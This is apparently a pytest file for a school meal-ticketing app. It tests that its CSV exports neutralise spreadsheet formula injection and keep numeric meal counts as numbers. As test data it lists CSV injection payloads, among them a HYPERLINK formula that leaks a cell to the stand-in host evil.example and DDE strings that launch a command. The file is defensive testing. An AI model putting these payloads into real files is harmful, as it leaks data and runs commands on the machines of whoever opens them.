"""Every CSV the desk writes goes through one writer that keeps formulas from running."""

from __future__ import annotations

import csv
from datetime import date, datetime

from eticket_desk.reports import csv_export, meal_counts
from eticket_desk.reports.csv_export import safe_cell, write_csv_file
from eticket_desk.reports.meal_counts import MealCounts, MealCountsData, MealDay, SchoolMeals
from eticket_desk.services.catalogue.organisation import OrganisationData
from eticket_desk.services.demo.data import COMMUNE

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _read(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    rows = [[attack, 7] for attack in ATTACKS]
    path = write_csv_file(tmp_path / "export.csv", ("Nom", "Jours"), rows)

    read = _read(path)
    assert [row[0] for row in read[1:]] == [f"'{attack}" for attack in ATTACKS]
    assert all(not row[0].startswith(csv_export.FORMULA_STARTS) for row in read[1:])
    assert [row[1] for row in read[1:]] == ["7"] * len(ATTACKS)


def test_numbers_the_program_counts_stay_numbers_even_negative(tmp_path):
    path = write_csv_file(tmp_path / "n.csv", ("Montant", "Texte"), [[-1250, "-1250"], [0, "0"]])

    read = _read(path)
    assert read[1] == ["-1250", "'-1250"]  # the count is a number; the same text is not run
    assert read[2] == ["0", "0"]
    assert safe_cell(-3) == -3 and safe_cell("Dupont") == "Dupont"
    assert safe_cell("Jean-Pierre =1") == "Jean-Pierre =1"  # only the first character counts


def test_the_meal_counts_csv_neutralises_a_school_name_and_keeps_its_counts(tmp_path):
    school = "=cmd|' /C calc'!A0"
    day = MealDay(
        date(2026, 11, 23),
        True,
        (SchoolMeals(school, MealCounts(120, 9, 7, 2, 3, 1)),),
        datetime(2026, 11, 20, 10, 0),
    )
    data = MealCountsData(
        organisation=OrganisationData(**COMMUNE),
        activity_name="Cantine",
        first_day=day.day,
        last_day=day.day,
        printed_at=datetime(2026, 11, 22, 16, 0),
        printed_by="Hélène Mégevand",
        days=(day,),
    )

    path = meal_counts.write_csv(data, tmp_path / "repas.csv")

    row = _read(path)[1]
    assert row[2] == f"'{school}"
    assert row[3] == "120" and int(row[3]) == 120  # a count Excel sums
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
